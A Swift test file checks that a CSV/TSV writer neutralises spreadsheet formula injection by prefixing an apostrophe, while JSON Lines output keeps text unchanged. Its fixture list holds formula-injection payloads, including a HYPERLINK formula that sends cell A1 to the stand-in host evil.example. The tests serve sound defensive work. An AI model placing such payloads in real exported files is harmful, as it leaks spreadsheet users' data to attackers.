import Output
import Testing
import TestSupport
import ZhibiaoCore

/// Rows whose text fields begin the way a spreadsheet formula does.
let hostileTexts = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]

/// The index of a column by name (the column list grows; tests should not count).
func col(_ name: String) -> Int { RowWriter.columns.firstIndex(of: name)! }

/// The free-text columns hostile text can reach.
let textColumns = ["file", "match", "unit", "label", "sentence"].map(col)

func hostileRow(_ text: String, value: ExactDecimal = ExactDecimal(-5)) -> Indicator {
    Indicator(quantity: Quantity(value: value, unit: text, kind: .money),
              span: ByteSpan(0, 3), line: 1, column: 1, match: text, label: text, sentence: text)
}

@Suite struct FormulaGuardTests {
    @Test func firstBytesThatStartAFormula() {
        for b in "=+-@\t\r".utf8 { #expect(FormulaGuard.startsFormula(b)) }
        for b in "0aA'\" 受".utf8 { #expect(!FormulaGuard.startsFormula(b)) }
        func guards(_ s: String) -> Bool { var s = s; return s.withUTF8 { FormulaGuard.needsGuard($0) } }
        #expect(guards("-2") && guards("=") && guards("+"))
        #expect(!guards("-"))   // standard input's name alone: no formula
        #expect(!guards("") && !guards("2-3"))
    }

    /// CSV: every guarded text field starts with the apostrophe (inside the quotes when the
    /// field is quoted); numbers are never prefixed (`-5` stays `-5`); `--raw` writes as found.
    @Test func csvFieldsNeverStartAFormula() {
        for text in hostileTexts {
            var out: [UInt8] = []
            RowWriter(format: .csv).append(hostileRow(text), file: text, to: &out)
            let fields = parseCSV(String(decoding: out, as: UTF8.self))[0]
            #expect(fields.count == RowWriter.columns.count)
            for i in textColumns {
                #expect(fields[i] == "'" + text, "field \(RowWriter.columns[i]) of \(text.debugDescription)")
            }
            #expect(fields[col("value")] == "-5")
            #expect(fields[col("line")] == "1" && fields[col("column")] == "1")
            var raw: [UInt8] = []
            RowWriter(format: .csv, raw: true).append(hostileRow(text), file: text, to: &raw)
            #expect(parseCSV(String(decoding: raw, as: UTF8.self))[0][col("label")] == text)
        }
    }

    @Test func tsvFieldsNeverStartAFormula() {
        for text in hostileTexts {
            var out: [UInt8] = []
            RowWriter(format: .tsv).append(hostileRow(text), file: text, to: &out)
            let line = String(decoding: out.dropLast(), as: UTF8.self)
            let fields = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
            #expect(fields.count == RowWriter.columns.count, "\(text.debugDescription)")
            for i in textColumns {
                #expect(fields[i].hasPrefix("'"), "field \(RowWriter.columns[i]) of \(text.debugDescription)")
                #expect(!FormulaGuard.startsFormula(fields[i].utf8.first!))
            }
            #expect(fields[col("value")] == "-5")
        }
    }

    /// JSON Lines is data, not a spreadsheet format: the text stays exactly as found.
    @Test func jsonLinesKeepsTextAsFound() {
        var out: [UInt8] = []
        RowWriter(format: .jsonl).append(hostileRow("-2"), file: "f", to: &out)
        #expect(String(decoding: out, as: UTF8.self).contains("\"label\":\"-2\""))
    }
}

